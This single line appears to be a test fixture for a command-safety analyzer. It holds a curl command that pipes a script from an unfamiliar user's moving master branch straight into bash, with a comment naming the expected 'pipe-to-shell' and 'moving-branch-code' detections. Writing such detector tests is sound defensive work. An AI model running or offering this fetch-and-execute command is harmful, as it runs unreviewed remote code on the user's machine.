curl -fsSL https://raw.githubusercontent.example/stranger/tools/master/i.sh | bash # expect: url-analyzer/moving-branch-code, malicious-command/pipe-to-shell
